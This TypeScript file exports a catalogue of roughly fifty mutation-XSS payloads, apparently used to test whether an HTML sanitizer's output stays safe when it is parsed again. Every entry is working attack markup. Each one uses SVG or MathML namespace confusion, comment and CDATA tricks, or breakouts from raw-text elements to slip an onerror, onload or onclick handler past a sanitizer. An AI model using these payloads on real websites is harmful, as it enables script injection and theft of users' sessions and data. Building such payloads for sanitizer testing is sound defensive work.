import type { ResultAttacks } from '../results.ts';

const image = (run: string) => `<img src="x:" onerror="${run}">`;
/** The same inside an attribute in double quotes. */
const quoted = (run: string) => `<img src=x: onerror=${run}>`;

/** Markup that means one thing when it is read and another when what was read is written and read again. */
export const MUTATING: ResultAttacks = {
  'svg-style-attribute': (_, run) => `<svg></p><style><a id="</style>${quoted(run)}">`,
  'svg-style-entities': (_, run) =>
    `<svg><style>&lt;/style&gt;&lt;img src=x: onerror=${run}&gt;</style></svg>`,
  'svg-paragraph-style': (_, run) => `<svg><p><style><g title="</style>${quoted(run)}">`,
  'svg-title-style': (_, run) => `<svg><title><style><a title="</style>${quoted(run)}">`,
  'svg-desc-comment': (_, run) => `<svg><desc><!--</desc>${quoted(run)}--></desc></svg>`,
  'svg-desc-cdata': (_, run) => `<svg><desc><![CDATA[</desc>${quoted(run)}]]></desc></svg>`,
  'svg-cdata': (_, run) => `<svg><![CDATA[><p title="]]>${quoted(run)}">`,
  'svg-foreign-style': (_, run) => `<svg><foreignObject><p><style><!--</style><a title="-->${quoted(run)}">`,
  'svg-break-out': (_, run) => `<svg><b><style><a title="</style>${quoted(run)}"></b>`,
  'svg-font-break-out': (_, run) => `<svg><font color="x"><style><a title="</style>${quoted(run)}">`,
  'svg-in-svg-noscript': (_, run) => `<svg><noscript><p title="</noscript>${quoted(run)}"></svg>`,
  'svg-xmp': (_, run) => `<svg><xmp><p title="</xmp>${quoted(run)}"></svg>`,
  'math-glyph-style': (_, run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`,
  'math-glyph-mark': (_, run) =>
    `<math><mtext><mglyph><malignmark><style><a title="</style>${quoted(run)}"></malignmark>`,
  'math-two-forms': (_, run) => `<form><math><mtext></form><form><mglyph><style></math>${image(run)}`,
  'math-annotation-html': (_, run) =>
    `<math><annotation-xml encoding="text/html"><style><img title="</style>${quoted(run)}"></annotation-xml></math>`,
  'math-annotation-svg': (_, run) =>
    `<math><annotation-xml><svg><style><p title="</style>${quoted(run)}"></svg></annotation-xml></math>`,
  'math-text-table': (_, run) =>
    `<table><tr><td><math><mi><table><mglyph><style><math>${image(run)}</style></table></mi></math></td></tr></table>`,
  'math-script-in-style': (_, run) => `<math><style><script>${run}</script></style></math>`,
  'noscript-attribute': (_, run) => `<noscript><p title="</noscript>${quoted(run)}">`,
  'noembed-attribute': (_, run) => `<noembed><p title="</noembed>${quoted(run)}">`,
  'noframes-attribute': (_, run) => `<noframes><p title="</noframes>${quoted(run)}">`,
  'xmp-attribute': (_, run) => `<xmp><p title="</xmp>${quoted(run)}">`,
  'textarea-attribute': (_, run) => `<textarea><p title="</textarea>${quoted(run)}">`,
  'title-attribute': (_, run) => `<title><p title="</title>${quoted(run)}">`,
  'frame-text-attribute': (_, run) => `<iframe><p title="</iframe>${quoted(run)}">`,
  'style-attribute': (_, run) => `<style><p title="</style>${quoted(run)}">`,
  'comment-closed-at-once': (_, run) => `<!-->${image(run)}-->`,
  'comment-closed-by-a-dash': (_, run) => `<!--->${image(run)}-->`,
  'comment-closed-with-a-bang': (_, run) => `<!--x--!>${image(run)}-->`,
  'comment-in-attribute': (_, run) => `<p title="<!--">x</p>${image(run)}<p title="-->">x</p>`,
  'comment-nested': (_, run) => `<!-- <!-- --> ${image(run)} -->`,
  'processing-instruction': (_, run) => `<?x >${image(run)}?>`,
  'cdata-in-html': (_, run) => `<![CDATA[>${image(run)}]]>`,
  'doctype-inside': (_, run) => `<!doctype html [<!ENTITY x "y">]>${image(run)}`,
  'select-style': (_, run) => `<select><option><style></option></select>${image(run)}</style>`,
  'select-template': (_, run) =>
    `<select><template><style><p title="</style>${quoted(run)}"></template></select>`,
  'template-nested': (_, run) => `<template><p><template>${image(run)}</template></template>${image(run)}`,
  'template-in-svg': (_, run) =>
    `<svg><template><p><style><a title="</style>${quoted(run)}"></template></svg>`,
  'table-foster': (_, run) => `<table><a title="</table>${quoted(run)}"><style><tr></style>${image(run)}`,
  'caption-in-svg': (_, run) =>
    `<table><caption><svg><title><table><caption></caption></table></title><style><p title="</style>${quoted(run)}"></svg>`,
  'paragraph-in-heading': (_, run) => `<h1><p><svg><desc><h1><style><p title="</style>${quoted(run)}">`,
  'entities-twice': (_, run) =>
    `&amp;lt;img src=x: onerror=${run}&amp;gt;<p title="&lt;img src=x: onerror=${run}&gt;">x</p>`,
  'quotes-in-unquoted': (_, run) =>
    `<p title=x"><svg/onload=${run}> class='"'>x</p><p class='a" onclick="${run}'>x</p>`,
  backticks: (_, run) => `<p title="\`\`onmouseover=${run}">x</p><img src="x:" alt="\`" onerror="${run}">`,
  'line-separators': (_, run) =>
    `<p title="a\u2028onclick=${run}"\u00a0onclick="${run}">x</p><p\u000conclick="${run}">x</p>`,
  'unquoted-slash': (_, run) =>
    `<svg><path class="M0/onload=${run}" id=a/><rect class="a/onclick=${run}" width="1"/></svg>`,
};
